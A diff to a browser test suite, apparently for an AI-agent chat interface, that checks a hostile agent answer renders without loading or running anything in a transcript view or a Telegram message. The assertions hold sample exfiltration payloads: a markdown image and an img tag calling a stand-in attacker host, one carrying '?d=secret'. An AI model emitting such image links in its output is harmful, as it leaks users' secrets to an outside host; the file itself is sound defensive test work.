@@ -178,7 +178,7 @@ describe("an agent's hostile answer loads and runs nothing", () => {
         expect(await output.locator("span.image-link", { hasText: "Image: inner" }).count()).toBe(1);
 
         // The `javascript:` link lost its URL: clicking it does nothing.
-        await output.getByText("click me").click();
+        await output.getByText("click me", { exact: true }).click();
         expect(await activeContent(page, ".transcript"), pass).toEqual({ found: [], pwned: null });
       }
       expect(exposure).toEqual({ requests: [], dialogs: [] });
@@ -218,7 +218,7 @@ describe("an agent's hostile answer loads and runs nothing", () => {
     const tags = new Set([...(telegram.html ?? "").matchAll(/<\/?([a-z-]+)/gi)].map((match) => match[1]));
     expect([...tags].sort()).toEqual(["b", "blockquote"]);
     expect(telegram.text).toContain(`![x](https://${ATTACKER}/leak.png?d=secret)`);
-    expect(telegram.text).toContain("<script>");
+    expect(telegram.text).toContain(`<img src="https://${ATTACKER}/raw.png"`);
     // Telegram fetches the first URL in a message for a preview unless the bot turns that off.
     const sent = stack.inbox.store.messages.find((message) => message.text === telegram.text);
     expect(sent?.details.linkPreviewDisabled).toBe(true);
